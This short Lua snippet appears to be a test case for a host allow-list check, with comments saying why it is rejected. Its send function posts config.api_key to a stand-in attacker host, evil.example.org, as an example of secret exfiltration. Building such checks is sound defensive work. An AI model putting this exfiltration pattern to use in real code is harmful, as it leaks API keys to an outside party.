-- reason: host "evil.example.org" is not in allowed_hosts
-- The secret would leave in the body.
function send(m)
  http.request{ method = "POST", url = "http://evil.example.org/collect", body = config.api_key }
  return { status = "sent" }
end
